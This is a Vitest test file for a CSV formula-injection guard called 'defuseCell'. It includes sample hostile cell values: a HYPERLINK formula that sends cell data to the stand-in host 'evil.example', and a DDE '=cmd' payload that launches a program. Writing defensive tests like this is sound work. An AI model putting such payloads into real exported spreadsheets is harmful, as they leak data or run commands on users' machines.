import { describe, expect, it } from "vitest";
import { defuseCell } from "./csv";

describe("defuseCell", () => {
  it("prefixes a single quote to cells a spreadsheet would read as a formula", () => {
    expect(defuseCell("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")")).toBe("'=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")");
    expect(defuseCell("=1+1")).toBe("'=1+1");
    expect(defuseCell("+1+1")).toBe("'+1+1");
    expect(defuseCell("-2+3")).toBe("'-2+3");
    expect(defuseCell("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
    expect(defuseCell("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(defuseCell("+91 98765 43210")).toBe("'+91 98765 43210");
  });

  it("also tab, carriage return and line feed at the start, and formulas behind leading spaces", () => {
    expect(defuseCell("\t=1+1")).toBe("'\t=1+1");
    expect(defuseCell("\r=1+1")).toBe("'\r=1+1");
    expect(defuseCell("\nx")).toBe("'\nx");
    expect(defuseCell("   =1+1")).toBe("'   =1+1");
  });

  it("leaves plain numbers, ordinary text and empty cells alone", () => {
    for (const value of ["-12.50", "-3", "42", "0.5", "", "SO-0810814", "Order received", "a=b", "e-mail@x", "'=already"]) {
      expect(defuseCell(value)).toBe(value);
    }
  });
});
